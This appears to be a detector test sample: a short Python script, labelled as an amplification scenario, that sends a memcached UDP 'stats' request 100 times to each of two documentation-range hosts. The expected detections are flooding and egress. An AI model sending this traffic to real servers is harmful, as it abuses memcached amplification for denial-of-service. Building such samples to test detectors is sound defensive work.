# scenario: 20 amplification
# expect: network.flood network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# The memcached "stats" request over UDP that answers far larger than it asks.
import socket

frame = b"\x00\x00\x00\x00\x00\x01\x00\x00stats\r\n"
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(1)
for host in ("198.51.100.9", "198.51.100.10"):
    for _ in range(100):
        sock.sendto(frame, (host, 11211))
try:
    print(sock.recvfrom(4096)[0][:60])
except OSError as exc:
    print("no answer:", exc)
